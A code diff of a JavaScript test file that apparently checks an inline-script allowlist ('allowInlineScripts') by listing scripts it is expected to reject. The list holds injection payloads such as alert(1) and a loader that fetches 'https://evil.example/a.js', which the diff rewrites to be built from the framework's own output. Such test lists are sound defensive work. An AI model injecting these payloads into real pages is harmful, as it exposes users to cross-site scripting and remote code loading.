@@ -50,8 +50,9 @@ describe('allowInlineScripts', () => {
     '(self.__next_f=self.__next_f||[]).push([0]);alert(1);(0)',
     'self.__next_f["push"](alert)',
     'requestAnimationFrame(function(){$RT=performance.now()});alert(1)',
-    'requestAnimationFrame(()=>setTimeout(()=>{for(const src of ["https://evil.example/a.js"])' +
-      'document.head.append(Object.assign(document.createElement("script"),{src,async:true}))}))',
+    deferScripts('<body><script src="/_next/static/chunks/1.js" async=""></script></body>')
+      .replace(/^<body><script>|<\/script><\/body>$/g, '')
+      .replace('"/_next/static/chunks/1.js"', '"https://evil.example/a.js"'),
     deferScripts('<body><script src="/_next/static/chunks/1.js" async=""></script></body>')
       .replace(/^<body><script>|<\/script><\/body>$/g, '')
       .replace('"/_next/static/chunks/1.js"', 'alert(1)'),
